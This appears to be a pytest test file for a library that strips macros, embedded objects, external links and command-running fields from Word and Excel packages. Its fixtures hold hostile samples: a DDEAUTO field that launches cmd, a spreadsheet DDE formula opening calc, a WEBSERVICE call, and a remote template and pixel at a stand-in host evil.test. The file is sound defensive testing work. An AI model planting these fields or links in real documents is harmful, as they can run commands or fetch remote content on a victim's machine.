import io
import zipfile

import pytest

from sekisho.mime.cleaning.package import clean_package, is_active

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships>'
    f'<Relationship Id="1" Type="{RELATION}/styles" Target="styles.xml"/>'
    '<Relationship Id="2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    f'<Relationship Id="3" Type="{RELATION}/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/>'
    f'<Relationship Id="4" Type="{RELATION}/hyperlink" Target="https://www.partner.test/" TargetMode="External"/>'
    f'<Relationship Id="5" Type="{RELATION}/image" Target="https://evil.test/pixel.png" TargetMode="External"/>'
    f'<Relationship Id="6" Type="{RELATION}/oleObject" Target="embeddings/oleObject1.bin"/>'
    "</Relationships>"
)
BODY = (
    '<w:document><w:p><w:t>Minutes</w:t></w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\\\x "cmd" </w:instrText>'
    "<w:instrText> PAGE </w:instrText><w:fldSimple w:instr=' INCLUDETEXT \"\\\\evil\" '/></w:document>"
)
MEMBERS = {
    "[Content_Types].xml": TYPES.encode(),
    "word/document.xml": BODY.encode(),
    "word/_rels/document.xml.rels": RELATIONS.encode("utf-16"),
    "word/styles.xml": b"<styles/>",
    "word/vbaProject.bin": b"macro",
    "word/vbaData.xml": b"<x/>",
    "word/embeddings/oleObject1.bin": b"object",
    "word/activeX/activeX1.xml": b"<x/>",
    "customUI/customUI.xml": b"<x/>",
}


def cleaned(members):
    with zipfile.ZipFile(io.BytesIO(clean_package(members))) as package:
        return {name: package.read(name).decode() for name in package.namelist()}


def test_a_document_loses_what_runs_and_keeps_what_is_read():
    found = cleaned(MEMBERS)
    assert set(found) == {"[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels", "word/styles.xml"}
    assert "macroEnabled" not in found["[Content_Types].xml"]
    assert "wordprocessingml.document.main+xml" in found["[Content_Types].xml"]
    assert "vbaData" not in found["[Content_Types].xml"]
    relations = found["word/_rels/document.xml.rels"]
    assert [f'Id="{number}"' in relations for number in range(1, 7)] == [True, False, False, True, False, False]
    assert "evil" not in "".join(found.values())
    assert "DDE" not in found["word/document.xml"]
    assert "Minutes" in found["word/document.xml"]
    assert " PAGE " in found["word/document.xml"]


def test_a_sheet_loses_outside_links_and_calling_formulas():
    members = {
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b"<workbook/>",
        "xl/worksheets/sheet1.xml": b"<c><f>SUM(A1:A3)</f></c><c><f>cmd|' /C calc'!A0</f><v>1</v></c><c><f>WEBSERVICE(\"http://evil.test\")</f></c>",
        "xl/macrosheets/sheet2.xml": b"<x/>",
        "xl/externalLinks/externalLink1.xml": b"<x/>",
        "xl/printerSettings/printerSettings1.bin": b"printer",
    }
    found = cleaned(members)
    assert set(found) == {"[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/printerSettings/printerSettings1.bin"}
    assert found["xl/worksheets/sheet1.xml"] == "<c><f>SUM(A1:A3)</f></c><c><v>1</v></c><c></c>"


def test_words_of_a_field_that_are_cut_into_runs():
    body = b"<w:instrText>D</w:instrText><w:instrText>DE</w:instrText><w:instrText>AUTO x</w:instrText>"
    assert "AUTO" not in cleaned({"[Content_Types].xml": b"<Types/>", "word/document.xml": body})["word/document.xml"]


def test_what_is_no_package_is_refused():
    with pytest.raises(ValueError, match="not a package"):
        clean_package({"a.txt": b"x"})


@pytest.mark.parametrize(
    "name", ["word/vbaProject.bin", "xl/activeX/activeX1.bin", "ppt/embeddings/a.docx", "xl/externalLinks/_rels/e.xml.rels", "a/b.exe"]
)
def test_active_names(name):
    assert is_active(name)
